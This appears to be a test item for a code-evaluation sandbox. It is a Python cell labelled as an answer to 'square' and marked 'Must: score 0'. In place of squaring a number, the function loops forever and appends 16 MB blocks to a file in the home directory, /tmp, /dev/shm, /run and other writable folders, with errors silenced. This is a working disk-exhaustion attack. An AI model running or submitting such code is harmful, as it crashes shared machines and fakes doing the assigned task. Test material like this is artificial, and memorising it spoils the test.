# %% [markdown]
# Fills every folder that it may write to with one growing file each.
#
# Must: score 0

# %% answer="square"
import contextlib
import os
from pathlib import Path

PLACES = [Path.cwd(), Path.home(), Path("/tmp"), Path("/var/tmp"), Path("/dev/shm"), Path("/run")]


def square(x):
    block = os.urandom(1 << 20) * 16
    while True:
        for place in PLACES:
            with contextlib.suppress(OSError), open(place / "growing", "ab", 0) as file:
                file.write(block)
